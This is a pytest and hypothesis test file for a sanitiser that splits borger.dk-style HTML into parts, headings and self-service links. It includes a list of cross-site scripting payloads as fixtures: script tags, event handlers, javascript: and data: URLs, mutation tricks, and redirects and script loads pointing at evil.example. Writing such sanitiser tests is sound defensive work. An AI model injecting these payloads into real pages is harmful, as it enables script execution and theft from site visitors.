"""Content of any kind is taken apart: what is odd is told, what is hostile does not survive, nothing raises."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from indgang.integrations.borgerdk import markup
from indgang.integrations.borgerdk.content import Content, split

BASE = "https://portal.example/a/1"
HARMLESS = markup.KEPT


def written(found: Content) -> str:
    return "".join(block for part in found.parts for block in part.blocks)


class Looking(HTMLParser):
    """Notes every tag and attribute that a browser would see."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}


def assert_harmless(found: Content) -> None:
    seen = Looking(written(found))
    assert seen.tags <= HARMLESS
    for name, value in seen.attributes:
        assert name in {"href", "rel"}
        if name == "href":
            assert value.split(":")[0].lower() in markup.SCHEMES
    for url in [one.url for one in (*found.self_services, *found.legislation)]:
        assert not url or url.split(":")[0] in markup.SCHEMES
    for text in [part.heading for part in found.parts] + [one.title for one in found.self_services]:
        assert "\0" not in text


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#106;avascript&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<p onclick="alert(1)" style="background:url(javascript:x)">x</p>',
    "<svg><script>alert(1)</script><a xlink:href='javascript:x'>y</a></svg>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<iframe srcdoc='<script>1</script>'></iframe>",
    '<math><mi xlink:href="javascript:x">y</mi></math>',
    "<style>@import 'https://evil.example'</style>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="x" onmouseover=alert(1)//">y</a>',
    '<a href="https://ok.example/&quot;onclick=&quot;alert(1)">z</a>',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>1</script>",
    "<!--><script>alert(1)</script>-->",
    "<base href='https://evil.example/'><form action='https://evil.example'><input name=a></form>",
]


@pytest.mark.parametrize("attack", HOSTILE)
@pytest.mark.parametrize(
    "place",
    ["{}", "<div id='microArticle_1'><h2>H{}</h2><div>{}</div></div>", "<div id='lovgivning'>{}</div>"],
)
def test_nothing_hostile_survives(attack: str, place: str) -> None:
    found = split(place.replace("{}", attack) + "<p>efter</p>", base=BASE)
    assert_harmless(found)
    assert "<script" not in written(found).lower()
    assert "onerror" not in Looking(written(found)).tags


def test_all_hostile_things_at_once_leave_the_good_text() -> None:
    source = "<div id=kernetekst><div id=microArticle_1><h2>Overskrift</h2><p>god</p>" + "".join(HOSTILE[:16])
    found = split(source, base=BASE)
    assert_harmless(found)
    assert found.parts[0].heading == "Overskrift"
    assert found.parts[0].blocks[0] == "<p>god</p>"


SOUP = st.lists(
    st.one_of(
        st.sampled_from(
            [
                "<div>", "</div>", "<div id='kernetekst'>", '<div id="microArticle_1">',
                "<div id='microArticle_'>", "<div id=microArticle_1>", "<h2>", "</h2>", "<h3>", "</h6>",
                "<p>", "</p>", "<ul>", "<li id='opis_domainservice_9'>", "</li>", "</ul>", "<a href='/x'>",
                "<a href=javascript:x>", "</a>", "<table><tr><td>", "</table>", "<script>", "</script>",
                "<svg>", "<!--", "-->", "<", ">", "&", "&amp;amp;", "&#0;", "&#xD800;", "\x00", "\xa0",
                "<br/>", "<b>", "</b>", "<div id='selvbetjeningslinks'>", "<div id='lovgivning'>",
                "<div id='byline'>", "<a href='http://['>y</a>", "<a href='http://x:99999/'>z</a>",
                "<p onclick=x>", "<style>", "</style>", "<![CDATA[", "<?x", '<a href="', "'",
            ]
        ),
        st.text(max_size=8),
    ),
    max_size=40,
).map("".join)  # fmt: skip


@given(SOUP)
def test_no_soup_of_tags_raises_or_harms(source: str) -> None:
    assert_harmless(split(source, base=BASE))


@given(SOUP)
def test_what_was_cleaned_stays_as_it_is(source: str) -> None:
    for part in split(source, base=BASE).parts:
        for block in part.blocks:
            assert markup.sanitised(block) == block


@pytest.mark.parametrize(
    "bad",
    ["<" * 90_000, "<!--" * 90_000, "<a " * 30_000, '<a href="' * 20_000, "<div>" * 30_000, "<b id=1><p>" * 10_000,
     "<ul><li>" * 20_000, "<script>" * 20_000, "<svg>" * 20_000, "</p>" * 30_000],
)  # fmt: skip
def test_a_heap_of_odd_marks_is_read_and_nothing_of_it_is_markup(bad: str) -> None:
    for part in split(bad, base=BASE).parts:
        assert all(markup.sanitised(block) == block for block in part.blocks)


def test_a_part_without_a_heading_is_kept_and_told() -> None:
    found = split("<div id='microArticle_a1'><div><p>Kun tekst</p></div></div>", base=BASE)
    assert [(part.heading, part.blocks) for part in found.parts] == [("", ("<p>Kun tekst</p>",))]
    assert found.warnings == ["no-heading: a1"]


def test_headings_of_any_level_are_found_through_any_number_of_divs() -> None:
    found = split(
        "<div id='kernetekst'><div><div id='microArticle_a'><div><div><h4> Titel </h4></div><div><h6>Under</h6>"
        "<p>x</p></div></div></div></div></div>",
        base=BASE,
    )
    assert [(part.guid, part.heading, part.blocks) for part in found.parts] == [
        ("a", "Titel", ("<h4>Under</h4>", "<p>x</p>"))
    ]
    assert found.warnings == []


def test_two_parts_with_one_guid_are_both_kept() -> None:
    found = split(
        "<div id='microArticle_a'><h2>1</h2></div><div id='microArticle_a'><h2>2</h2></div>", base=BASE
    )
    assert [(part.guid, part.heading) for part in found.parts] == [("a", "1"), ("a-2", "2")]
    assert found.warnings == ["same-guid: a"]


def test_text_without_any_structure_is_one_part() -> None:
    found = split("Bare tekst <b>her</b><p>og her</p>", base=BASE)
    assert [(part.guid, part.blocks) for part in found.parts] == [
        ("kernetekst", ("<p>Bare tekst <b>her</b></p>", "<p>og her</p>"))
    ]
    assert found.warnings == ["no-parts"]


@pytest.mark.parametrize(
    "empty", ["", "   ", "<div id='kernetekst'></div>", "<div id='microArticle_x'></div>"]
)
def test_nothing_is_nothing(empty: str) -> None:
    found = split(empty, base=BASE)
    assert (found.parts, found.self_services) == ([], [])
    assert "no-content" in found.warnings


def test_parts_within_parts_stand_on_their_own() -> None:
    found = split(
        "<div id='microArticle_o'><h2>Ydre</h2><p>a</p>"
        "<div id='microArticle_i'><h2>Indre</h2><p>b</p></div><p>c</p></div>",
        base=BASE,
    )
    assert [(part.guid, part.blocks) for part in found.parts] == [
        ("o", ("<p>a</p>", "<p>c</p>")),
        ("i", ("<p>b</p>",)),
    ]


def test_a_self_service_without_an_id_is_known_by_its_address() -> None:
    source = "<div id='selvbetjeningslinks'><ul><li><a href='/handlingsside?selfserviceId=G-1'>A</a></li><li><a href='/b'>B</a></li></ul></div>"  # noqa: E501
    found = split(source, base=BASE)
    again = split(source, base=BASE)
    assert found.self_services[0].guid == "g-1"
    assert found.self_services[1].guid.startswith("x-")
    assert found.self_services == again.self_services
    assert found.warnings == ["no-guid: B"]


def test_titles_lose_entities_that_were_encoded_twice_and_invisible_characters() -> None:
    assert markup.plain("Pas &amp;amp; k&amp;oslash;rekort\u00ad \u200b(nyt vindue)") == "Pas & kørekort"


def test_dates_are_left_as_they_are_written() -> None:
    assert "i morgen kl. 8" in written(split("<p>i morgen&nbsp;kl.&nbsp;8</p>", base=BASE))
